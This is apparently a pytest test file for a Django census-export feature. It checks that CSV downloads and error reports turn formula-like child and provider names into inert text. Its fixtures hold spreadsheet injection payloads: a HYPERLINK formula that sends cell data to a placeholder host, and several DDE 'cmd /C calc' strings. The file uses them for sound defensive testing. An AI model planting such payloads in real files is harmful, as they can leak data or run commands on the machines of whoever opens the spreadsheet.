"""The census file and its error report: a child's or provider's name written to look like a
formula comes out as inert text (a leading single quote), every other item as it is."""

import csv
import datetime as dt
import io

import pytest
import time_machine
from django.urls import reverse

from aptrack.census.items import HEADERS
from aptrack.census.tests.factories import placement, tuition_provider

pytestmark = pytest.mark.django_db

AFTER_CENSUS = dt.datetime(2027, 2, 1, 12, 0, tzinfo=dt.UTC)
LINK = '=HYPERLINK("http://example.invalid/?d="&A2,"Open")'
COMMAND = "+cmd|' /C calc'!A0"


@pytest.fixture
def hostile(world):
    """The world's Dorset child renamed to formulas, placed census-ready with a hostile provider."""
    child = world.child_a
    child.legal_last_name, child.legal_first_name = LINK, COMMAND
    child.save(update_fields=["legal_last_name", "legal_first_name"])
    world.provider_x.organisation.name = "@SUM(1+1)*cmd|' /C calc'!A0"
    world.provider_x.organisation.save(update_fields=["name"])
    provider = tuition_provider(
        organisation=world.provider_x.organisation, name="-2+3+cmd|' /C calc'!A0"
    )
    return placement(provider=provider, child=child)


def _rows(response) -> list[list[str]]:
    return list(csv.reader(io.StringIO(response.content.decode("utf-8"))))


def _assert_inert(rows: list[list[str]]) -> None:
    for row in rows:
        for value in row:
            assert not value.startswith(("=", "+", "@", "\t", "\r")), value
            assert not value.startswith("-") or value.lstrip("-").replace(".", "").isdigit(), value


@time_machine.travel(AFTER_CENSUS)
def test_census_file_writes_hostile_names_as_text(client, world, hostile):
    world.child_a.placements.exclude(pk=hostile.pk).delete()
    client.force_login(world.officer_a)
    response = client.get(reverse("census:download", args=["838"]))
    assert response.status_code == 200
    rows = _rows(response)
    assert tuple(rows[0]) == HEADERS
    line = dict(zip(HEADERS, rows[1], strict=True))
    assert line["Surname"] == "'" + LINK
    assert line["Forename"] == "'" + COMMAND
    assert line["UPN"] == world.child_a.upn
    _assert_inert(rows)


@time_machine.travel(AFTER_CENSUS)
def test_error_report_writes_hostile_names_as_text(client, world, hostile):
    client.force_login(world.officer_a)
    response = client.get(reverse("census:errors", args=["838"]))
    assert response.status_code == 200
    rows = _rows(response)
    surnames = {dict(zip(rows[0], row, strict=True))["Surname"] for row in rows[1:]}
    assert "'" + LINK in surnames
    _assert_inert(rows)
